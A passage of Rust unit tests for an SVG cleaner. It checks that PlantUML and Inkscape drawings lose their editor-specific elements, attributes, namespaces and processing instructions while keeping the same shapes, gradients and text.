        "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"no\"?><svg {NS} contentStyleType=\"text/css\" height=\"120px\" preserveAspectRatio=\"none\" style=\"width:113px;height:120px;background:#FFFFFF;\" version=\"1.1\" viewBox=\"0 0 113 120\" width=\"113px\" zoomAndPan=\"magnify\"><?plantuml 1.2025.2?><defs><filter height=\"300%\" id=\"f1\" width=\"300%\" x=\"-1\" y=\"-1\"><feGaussianBlur result=\"blurOut\" stdDeviation=\"2.0\"/><feOffset dx=\"4.0\" dy=\"4.0\" in=\"blurOut2\" result=\"blurOut3\"/><feBlend in=\"SourceGraphic\" in2=\"blurOut3\" mode=\"normal\"/></filter></defs><g><line style=\"stroke:#181818;stroke-width:0.5;stroke-dasharray:5,5;\" x1=\"26\" x2=\"26\" y1=\"36\" y2=\"85\"/><rect fill=\"#E2E2F0\" filter=\"url(#f1)\" height=\"30\" rx=\"2.5\" width=\"43\" x=\"5\" y=\"5\"/><text fill=\"#000000\" font-family=\"sans-serif\" font-size=\"14\" lengthAdjust=\"spacing\" textLength=\"29\" x=\"12\" y=\"25\">Bob</text><?plantuml-src Sy-_0?></g></svg>"
    );
    let expected = format!(
        "{ROOT} height=\"120px\" preserveAspectRatio=\"none\" style=\"width:113px;height:120px;background:#FFFFFF\" version=\"1.1\" viewBox=\"0 0 113 120\" width=\"113px\"><defs><filter height=\"300%\" id=\"f1\" width=\"300%\" x=\"-1\" y=\"-1\"><feGaussianBlur result=\"blurOut\" stdDeviation=\"2.0\"/><feOffset dx=\"4.0\" dy=\"4.0\" in=\"blurOut2\" result=\"blurOut3\"/><feBlend in=\"SourceGraphic\" in2=\"blurOut3\" mode=\"normal\"/></filter></defs><g><line style=\"stroke:#181818;stroke-width:0.5;stroke-dasharray:5,5\" x1=\"26\" x2=\"26\" y1=\"36\" y2=\"85\"/><rect fill=\"#E2E2F0\" filter=\"url(#f1)\" height=\"30\" rx=\"2.5\" width=\"43\" x=\"5\" y=\"5\"/><text fill=\"#000000\" font-family=\"sans-serif\" font-size=\"14\" lengthAdjust=\"spacing\" textLength=\"29\" x=\"12\" y=\"25\">Bob</text></g></svg>\n"
    );
    assert_eq!(cleaned(drawing.as_bytes()), Ok(expected));
}

/// Inkscape's output: its own names, a prefix for SVG, gradients that refer to gradients.
#[test]
fn a_drawing_of_inkscape_looks_as_before() {
    let drawing = "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"no\"?>\n<!-- Created with Inkscape -->\n<svg width=\"40mm\" height=\"20mm\" viewBox=\"0 0 40 20\" version=\"1.1\" id=\"svg5\" inkscape:version=\"1.3\" sodipodi:docname=\"a.svg\" xmlns:inkscape=\"http://www.inkscape.org/namespaces/inkscape\" xmlns:sodipodi=\"http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd\" xmlns:xlink=\"http://www.w3.org/1999/xlink\" xmlns=\"http://www.w3.org/2000/svg\" xmlns:svg=\"http://www.w3.org/2000/svg\" xmlns:rdf=\"http://www.w3.org/1999/02/22-rdf-syntax-ns#\"><sodipodi:namedview id=\"n\" pagecolor=\"#ffffff\"><inkscape:grid/></sodipodi:namedview><metadata><rdf:RDF/></metadata><defs id=\"defs2\"><linearGradient id=\"a\" inkscape:collect=\"always\"><stop style=\"stop-color:#ff0000;stop-opacity:1;\" offset=\"0\"/></linearGradient><linearGradient xlink:href=\"#a\" id=\"b\" x1=\"0\" x2=\"40\" gradientUnits=\"userSpaceOnUse\"/><inkscape:path-effect effect=\"spiro\"/></defs><svg:g inkscape:label=\"Layer 1\" inkscape:groupmode=\"layer\" id=\"layer1\"><rect style=\"opacity:1;fill:url(#b);-inkscape-stroke:none\" width=\"30\" height=\"10\"/><text xml:space=\"preserve\" style=\"font-size:4px;font-family:'DejaVu Sans';-inkscape-font-specification:'DejaVu Sans, Normal'\" x=\"2\" y=\"8\"><tspan sodipodi:role=\"line\" x=\"2\" y=\"8\">Store</tspan></text></svg:g></svg>";
    let expected = format!(
        "{ROOT} width=\"40mm\" height=\"20mm\" viewBox=\"0 0 40 20\" version=\"1.1\" id=\"svg5\"><defs id=\"defs2\"><linearGradient id=\"a\"><stop style=\"stop-color:#ff0000;stop-opacity:1\" offset=\"0\"/></linearGradient><linearGradient xlink:href=\"#a\" id=\"b\" x1=\"0\" x2=\"40\" gradientUnits=\"userSpaceOnUse\"/></defs><g id=\"layer1\"><rect style=\"opacity:1;fill:url(#b)\" width=\"30\" height=\"10\"/><text xml:space=\"preserve\" style=\"font-size:4px;font-family:'DejaVu Sans'\" x=\"2\" y=\"8\"><tspan x=\"2\" y=\"8\">Store</tspan></text></g></svg>\n"
    );
    assert_eq!(cleaned(drawing.as_bytes()), Ok(expected));
}
